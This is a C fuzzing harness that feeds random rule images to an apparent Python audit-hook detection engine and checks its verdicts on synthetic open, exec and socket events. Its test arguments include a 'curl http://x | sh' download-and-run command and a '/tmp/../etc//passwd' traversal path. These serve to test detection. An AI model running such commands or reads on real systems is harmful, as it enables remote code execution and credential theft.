/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Images from someone who wishes the guest ill: what passes the check is judged by, bound and asked
 * for names. The checksum is set right first, for it keeps out accidents only.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "verdict.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static struct pyaudit_value
text(const char *s)
{
	return pyaudit_value_text(s, strlen(s));
}

static void
judge(const void *image, const char *name, const struct pyaudit_proc_bits *bits)
{
	const struct pyaudit_slot *slot = pyaudit_image_slot(image, name);
	struct pyaudit_value items[3] = {text("sh"), text("-c"), text("curl http://x | sh")};
	struct pyaudit_value args[3] = {
		text("/tmp/../etc//passwd"),
		{.type = PYAUDIT_TAG_LIST, .n_items = 3, .full_len = 3, .items = items},
		pyaudit_value_int(443),
	};
	struct pyaudit_origin frames[1] = {
		{.file = text("/usr/lib/x.py"), .module = text("x"), .line = 3}};
	char scratch[PYAUDIT_SCRATCH_SIZE];
	struct pyaudit_event event = {
		.id = pyaudit_event_by_name(name, strlen(name)),
		.name = name,
		.name_len = (uint32_t)strlen(name),
		.args = args,
		.n_args = 3,
		.frames = frames,
		.n_frames = 1,
		.scratch = scratch,
		.scratch_size = sizeof(scratch),
	};
	struct pyaudit_verdict verdict;

	if (slot->flags == PYAUDIT_SLOT_JUDGE && slot->glance > 0 && slot->glance <= event.n_args &&
	    pyaudit_value_is_text(&args[slot->glance - 1]))
		(void)pyaudit_glance(image, slot, args[slot->glance - 1].s, args[slot->glance - 1].len);
	pyaudit_judge(image, slot, bits, &event, &verdict);
	for (unsigned i = 0; i < verdict.n_hits; i++)
		if (strlen(pyaudit_image_rule_id(image, verdict.hits[i])) > PYAUDIT_RULE_ID_MAX)
			abort();
}

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct pyaudit_image *head;
	struct pyaudit_proc_bits bits;
	struct pyaudit_facts facts;
	uint8_t *image;

	if (size < sizeof(*head))
		return 0;
	image = malloc(size);
	if (image == NULL)
		abort();
	memcpy(image, data, size);
	head = (void *)image;
	head->major = pyaudit_le16_of(PYAUDIT_IMAGE_MAJOR); /* what was found in an older one is worth a look */
	head->size = pyaudit_le32_of((uint32_t)size);
	head->checksum = pyaudit_le64_of(pyaudit_image_checksum(image, size));
	if (pyaudit_image_check(image, size) == 0) {
		memset(&facts, 0, sizeof(facts));
		facts.fact[PYAUDIT_F_PROC_UNIT - PYAUDIT_F_PROC_PID] = text("gunicorn.service");
		facts.fact[PYAUDIT_F_PROC_UID - PYAUDIT_F_PROC_PID] = pyaudit_value_int(0);
		pyaudit_image_bind(image, &facts, &bits);
		judge(image, "open", &bits);
		judge(image, "os.exec", &bits);
		judge(image, "socket.connect", &bits);
		judge(image, "library.event", &bits);
	}
	free(image);
	return 0;
}
